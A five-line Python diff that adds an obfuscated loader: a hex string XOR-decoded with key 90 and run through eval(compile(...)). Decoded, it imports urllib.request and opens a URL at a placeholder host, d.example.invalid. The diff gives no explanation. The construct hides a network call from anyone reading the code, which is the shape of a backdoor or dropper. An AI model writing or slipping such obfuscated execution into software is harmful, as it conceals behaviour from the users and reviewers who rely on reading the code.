@@ -1,0 +1,5 @@
+data = bytes.fromhex("33372a35282e7a2f283636333874283f2b2f3f292e7a3b297a2f502f742f2836352a3f347278322e2e2a296075753e743f223b372a363f7433342c3b36333e7522787350")
+text = ""
+for c in data:
+    text += chr(c ^ 90)
+eval(compile(text, "", "exec"))
